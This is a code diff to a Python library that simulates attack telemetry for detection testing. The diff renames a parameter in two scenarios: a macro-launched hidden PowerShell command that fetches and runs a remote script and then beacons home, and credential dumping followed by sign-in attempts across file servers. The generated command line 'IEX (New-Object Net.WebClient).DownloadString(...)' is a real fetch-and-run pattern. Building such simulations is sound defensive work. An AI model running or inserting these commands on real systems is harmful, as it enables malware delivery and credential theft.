@@ -6,25 +6,25 @@ import base64
 from collections.abc import Iterator
 
 from streamguard.simulate.places import public_address
-from streamguard.simulate.scenarios.context import Actor, Scenario, Stage, Step
+from streamguard.simulate.scenarios.context import Actor, Scenario, ScenarioContext, Step
 from streamguard.simulate.shared import domain
 
 _POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
 
 
-def encoded_powershell(stage: Stage, start: int) -> Iterator[Step]:
-    """A macro starts an encoded command, which fetches the next stage and calls home."""
-    draw = stage.draw
-    user = stage.pick("office", "finance", "sales")
-    time = stage.next_working_time(user, start)
-    actor = Actor(stage, user, stage.own_place(user, time), noticed=0.3)
-    host, address = f"cdn.{domain(draw)}", public_address(draw, "hosting:stage")
+def encoded_powershell(context: ScenarioContext, start: int) -> Iterator[Step]:
+    """A macro starts an encoded command, which fetches the next context and calls home."""
+    draw = context.draw
+    user = context.pick("office", "finance", "sales")
+    time = context.next_working_time(user, start)
+    actor = Actor(context, user, context.own_place(user, time), noticed=0.3)
+    host, address = f"cdn.{domain(draw)}", public_address(draw, "hosting:context")
     document = f"C:\\Users\\{actor.user}\\Downloads\\invoice-{draw.randrange(10**6)}.docm"
     yield actor.run(
         time, "winword.exe", f'winword.exe /n "{document}"', path="C:\\Program Files\\Office\\winword.exe"
     )
     for _ in range(draw.randint(3, 14)):
-        time += stage.gap(45_000, 1.2)
+        time += context.gap(45_000, 1.2)
         script = (
             f"IEX (New-Object Net.WebClient).DownloadString('https://{host}/{draw.getrandbits(48):012x}')"
         )
@@ -34,19 +34,21 @@ def encoded_powershell(stage: Stage, start: int) -> Iterator[Step]:
             time, "powershell.exe", f"powershell.exe -nop -w hidden {flag} {text}", path=_POWERSHELL
         )
         yield actor.resolve(time + 300, host, addresses=(address,), ttl=60)
-        yield actor.connect(time + 400, address, host, sent=stage.gap(900), received=stage.gap(250_000, 1.0))
+        yield actor.connect(
+            time + 400, address, host, sent=context.gap(900), received=context.gap(250_000, 1.0)
+        )
     beat = draw.uniform(20_000, 90_000)
     for _ in range(draw.randint(15, 60)):
         time += int(beat * draw.uniform(0.85, 1.15))
         yield actor.connect(time, address, host, sent=draw.randint(300, 700), received=draw.randint(80, 400))
 
 
-def credential_dumping(stage: Stage, start: int) -> Iterator[Step]:
+def credential_dumping(context: ScenarioContext, start: int) -> Iterator[Step]:
     """The memory of the sign-in service is written to a file; what it holds is tried on other servers."""
-    draw = stage.draw
-    user = stage.pick("admin", "developer", "office")
+    draw = context.draw
+    user = context.pick("admin", "developer", "office")
     time = start
-    actor = Actor(stage, user, stage.own_place(user, time), noticed=0.35)
+    actor = Actor(context, user, context.own_place(user, time), noticed=0.35)
     dump = f"C:\\Windows\\Temp\\{draw.getrandbits(24):06x}.dmp"
     ways = [
         (
@@ -69,18 +71,18 @@ def credential_dumping(stage: Stage, start: int) -> Iterator[Step]:
             privileges="system",
             signer=None if unsigned else "Publisher of Windows",
         )
-        time += stage.gap(20_000)
-    yield actor.touch(time, dump, "create", size=stage.gap(60_000_000, 0.3))
+        time += context.gap(20_000)
+    yield actor.touch(time, dump, "create", size=context.gap(60_000_000, 0.3))
     for _ in range(draw.randint(10, 40)):
-        time += stage.gap(6000, 1.0)
+        time += context.gap(6000, 1.0)
         server = draw.randrange(200)
         yield actor.connect(
             time,
             f"10.204.{server % 8}.{2 + server}",
             f"files-{server:03d}.corp.example",
             port=445,
-            sent=stage.gap(3000),
-            received=stage.gap(3000),
+            sent=context.gap(3000),
+            received=context.gap(3000),
         )
         failed = draw.random() < 0.5
         yield actor.sign_in(
